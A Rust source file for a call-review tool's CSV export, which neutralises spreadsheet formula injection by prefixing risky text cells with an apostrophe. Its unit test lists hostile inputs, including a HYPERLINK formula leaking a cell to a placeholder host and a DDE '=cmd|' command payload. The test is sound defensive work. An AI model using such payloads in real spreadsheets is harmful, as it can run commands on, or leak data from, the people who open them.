//! The one CSV writer behind every export (`callqa export --csv`, the clips' `index.csv`).
//!
//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
//! carriage return before one) as a formula, so a reviewer's comment or a call's name could
//! run a command or leak the sheet ("CSV injection", OWASP). Every text cell that starts with
//! one of those characters (or its full-width form) is written with a leading `'`, which
//! spreadsheets take as "this is text". Numbers are typed as numbers ([`Cell::Int`],
//! [`Cell::Num`]) and written as they are: a score of `-3.5` stays a number. `raw` turns the
//! neutralising off (`--raw`) for programs that read the CSV themselves.
//!
//! The file starts with a UTF-8 byte-order mark so spreadsheets show Hindi intact.

use std::borrow::Cow;
use std::io::Write;

/// The UTF-8 byte-order mark.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// What a text cell is prefixed with when it could be read as a formula.
pub const NEUTRALISER: char = '\'';

/// One cell: text (neutralised unless raw) or a number (never changed).
#[derive(Clone, Debug, PartialEq)]
pub enum Cell<'a> {
    Text(Cow<'a, str>),
    Int(i64),
    /// A number written with `decimals` digits after the point; not finite → empty.
    Num {
        value: f64,
        decimals: usize,
    },
    /// A number written in its shortest exact form (`3`, `2.5`); not finite → empty.
    Real(f64),
    /// No value (an unanswered item, a score that cannot be computed).
    Empty,
}

impl<'a> Cell<'a> {
    pub fn text(s: impl Into<Cow<'a, str>>) -> Cell<'a> {
        Cell::Text(s.into())
    }

    pub fn num(value: f64, decimals: usize) -> Cell<'a> {
        Cell::Num { value, decimals }
    }

    /// `Some(v)` as a number, `None` as an empty cell.
    pub fn opt_num(value: Option<f64>, decimals: usize) -> Cell<'a> {
        value.map_or(Cell::Empty, |value| Cell::Num { value, decimals })
    }

    /// The characters written for this cell (before CSV quoting).
    pub fn render(&self, raw: bool) -> Cow<'_, str> {
        match self {
            Cell::Text(s) if raw => Cow::Borrowed(s.as_ref()),
            Cell::Text(s) => neutralise(s),
            Cell::Int(v) => Cow::Owned(v.to_string()),
            Cell::Num { value, decimals } if value.is_finite() => {
                Cow::Owned(format!("{value:.prec$}", prec = *decimals))
            }
            Cell::Real(v) if v.is_finite() => Cow::Owned(v.to_string()),
            Cell::Num { .. } | Cell::Real(_) | Cell::Empty => Cow::Borrowed(""),
        }
    }
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(s: &'a str) -> Cell<'a> {
        Cell::Text(Cow::Borrowed(s))
    }
}

impl From<String> for Cell<'_> {
    fn from(s: String) -> Self {
        Cell::Text(Cow::Owned(s))
    }
}

impl From<i64> for Cell<'_> {
    fn from(v: i64) -> Self {
        Cell::Int(v)
    }
}

/// Whether a spreadsheet could take a text starting like `s` for a formula.
pub fn is_formula_like(s: &str) -> bool {
    let trigger = |c: char| {
        matches!(
            c,
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n'
                // Full-width forms, which some spreadsheets also accept.
                | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}'
        )
    };
    // Leading spaces (and other blanks) are skipped by some spreadsheets before a formula.
    let skipped = |c: &char| c.is_whitespace() && !matches!(c, '\t' | '\r' | '\n');
    s.chars().find(|c| !skipped(c)).is_some_and(trigger)
}

/// `s` with a leading `'` when a spreadsheet could read it as a formula, else `s` itself.
pub fn neutralise(s: &str) -> Cow<'_, str> {
    if is_formula_like(s) {
        let mut t = String::with_capacity(s.len() + 1);
        t.push(NEUTRALISER);
        t.push_str(s);
        Cow::Owned(t)
    } else {
        Cow::Borrowed(s)
    }
}

/// A CSV file being written: BOM first, then rows of [`Cell`]s.
pub struct CsvWriter<W: Write> {
    w: csv::Writer<W>,
    raw: bool,
}

impl<W: Write> std::fmt::Debug for CsvWriter<W> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("CsvWriter").field("raw", &self.raw).finish_non_exhaustive()
    }
}

impl<W: Write> CsvWriter<W> {
    /// Writes the BOM; `raw` writes text cells exactly as given (no `'` before formulas).
    pub fn new(mut out: W, raw: bool) -> std::io::Result<CsvWriter<W>> {
        out.write_all(BOM)?;
        Ok(CsvWriter { w: csv::Writer::from_writer(out), raw })
    }

    /// A header row (column names are text too: a custom scorecard's item keys end up here).
    pub fn header<S: AsRef<str>>(&mut self, names: &[S]) -> csv::Result<()> {
        let cells: Vec<Cell<'_>> = names.iter().map(|n| Cell::from(n.as_ref())).collect();
        self.row(&cells)
    }

    pub fn row(&mut self, cells: &[Cell<'_>]) -> csv::Result<()> {
        let raw = self.raw;
        self.w.write_record(cells.iter().map(|c| c.render(raw).into_owned()))
    }

    /// Flushes and hands back the underlying writer.
    pub fn finish(self) -> std::io::Result<W> {
        self.w.into_inner().map_err(|e| std::io::Error::other(e.to_string()))
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn written(cells: &[Cell<'_>], raw: bool) -> String {
        let mut w = CsvWriter::new(Vec::new(), raw).unwrap();
        w.row(cells).unwrap();
        let bytes = w.finish().unwrap();
        assert!(bytes.starts_with(BOM));
        String::from_utf8(bytes[BOM.len()..].to_vec()).unwrap()
    }

    #[test]
    fn formulas_are_neutralised_text_and_numbers_are_kept() {
        for hostile in [
            "=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
            "=cmd|'/C calc'!A0",
            "@SUM(1+1)",
            "+1+1",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "\u{FF1D}1+1",
        ] {
            assert_eq!(neutralise(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for fine in ["Meena", "ग्राहक को टोका", "10.9;14.25", "0:05.8", "", "a=b", "'quoted"]
        {
            assert_eq!(neutralise(fine), fine);
        }
        let line = written(
            &[
                Cell::text("=1+1"),
                Cell::num(-3.5, 1),
                Cell::num(66.666, 1),
                Cell::Int(-4),
                Cell::Real(-2.0),
                Cell::opt_num(None, 1),
                Cell::num(f64::NAN, 1),
            ],
            false,
        );
        assert_eq!(line, "'=1+1,-3.5,66.7,-4,-2,,\n");
        assert_eq!(written(&[Cell::text("=1+1"), Cell::text("@x")], true), "=1+1,@x\n");
    }

    #[test]
    fn quoting_still_applies_after_neutralising() {
        assert_eq!(written(&[Cell::text("=a,\"b\"\nc")], false), "\"'=a,\"\"b\"\"\nc\"\n");
    }
}
